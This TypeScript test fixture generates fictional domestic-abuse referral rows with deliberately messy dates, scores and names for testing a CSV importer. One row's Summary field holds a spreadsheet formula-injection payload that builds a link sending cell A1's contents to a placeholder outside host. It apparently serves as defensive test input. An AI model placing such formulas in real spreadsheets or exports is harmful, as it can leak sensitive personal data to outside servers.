/** A sheet with the habits of real agencies; everybody in it is invented. */
const COLUMNS = [
  'Ref', 'Date received', 'Time received', 'Referring agency', 'Referrer', 'Referrer contact', 'Forename', 'Surname', 'DOB',
  'Gender', 'Safe phone', 'OK to call', 'OK to leave message', 'Address', 'Postcode', 'Consent to referral', 'Checklist', 'Score',
  'Abuse types', 'Perpetrator forename', 'Perpetrator surname', 'Relationship', 'Children', 'Summary', 'Service requested',
  'Crime number',
] as const; // prettier-ignore
type Column = (typeof COLUMNS)[number];
export type AgencyRow = Partial<Record<Column, string>>;

const PLAIN: Record<Column, string> = {
  Ref: '', 'Date received': '11/08/2026', 'Time received': '14:05', 'Referring agency': 'Police - PPN', Referrer: 'PC 0042',
  'Referrer contact': 'desk@ppn.example', Forename: '', Surname: '', DOB: '', Gender: 'F', 'Safe phone': '', 'OK to call': 'Y',
  'OK to leave message': 'N', Address: '4 Stryd y Bont, Aberwylan', Postcode: 'zz11zz', 'Consent to referral': 'Y',
  Checklist: 'SafeLives Dash 24', Score: '11', 'Abuse types': 'Physical; Emotional', 'Perpetrator forename': 'Marlowe',
  'Perpetrator surname': 'Quill', Relationship: 'ex-partner', Children: '', Summary: 'Shouting heard by a neighbour.',
  'Service requested': 'IDVA', 'Crime number': '',
}; // prettier-ignore

const FORENAMES = ['Tirion', 'Osgar', 'Maren', 'Idony', 'Perrin', 'Sabeen', 'Yewande', 'Katya', 'Brychan', 'Anwyl', 'Gwenllian', 'Ffion'];
const SURNAMES = ['Cadwallader', 'Threlkeld', 'Abernethy', 'Oyelaran', 'Wisniewska', 'Penhaligon', 'Rhydderch'];

/** Somebody unlike everybody else in the file. */
export function someone(number: number, cells: AgencyRow = {}): AgencyRow {
  return {
    ...PLAIN,
    Ref: `X${1000 + number}`,
    Forename: FORENAMES[number % FORENAMES.length] ?? '',
    Surname: SURNAMES[Math.floor(number / FORENAMES.length) % SURNAMES.length] ?? '',
    DOB: `${String((number % 27) + 1).padStart(2, '0')}/0${(number % 9) + 1}/19${60 + (number % 40)}`,
    'Safe phone': `07700 900${String(100 + (number % 800)).padStart(3, '0')}`,
    ...cells,
  };
}

export const BLANK: AgencyRow = {};

/** One row of each habit: 15 rows that read, 7 to review, one blank. */
export const UNTIDY_ROWS: readonly AgencyRow[] = [
  ...Array.from({ length: 8 }, (_, number) => someone(number)),
  someone(8, { 'Date received': '2026-09-08', 'Time received': '' }),
  someone(9, { 'Date received': '20.08.26', 'Time received': '1pm' }),
  someone(10, { Checklist: 'DASH 2009 (27)', Score: '26' }),
  someone(11, { Checklist: 'DARA', Score: 'High' }),
  someone(12, { Summary: '=HYPERLINK("http://example.invalid/?x="&A1,"open")' }),
  someone(13, { Children: 'Odo Threlkeld 5/6/2014 / Petra ap Brychan 2020-01-02', 'Crime number': 'CN/0042' }),
  someone(14, { 'Service requested': 'any' }),
  BLANK,
  someone(20, { DOB: '31/02/1990' }),
  someone(21, { 'Date received': '' }),
  someone(22, { Score: '26' }),
  someone(23, { 'Safe phone': "07700 900989 (mum's)" }),
  someone(24, { Surname: '' }),
  someone(25, { Forename: 'Tirion', Surname: 'CADWALLADER ', DOB: '1/1/1960', Ref: 'X2000' }),
  someone(26, { Checklist: 'DARA', Score: '14' }),
];

export function csvOf(rows: readonly AgencyRow[], columns: readonly string[] = COLUMNS): string {
  const line = (cells: readonly string[]): string => cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',');
  return [line(columns), ...rows.map((row) => line(columns.map((column) => row[column as Column] ?? '')))].join('\r\n');
}
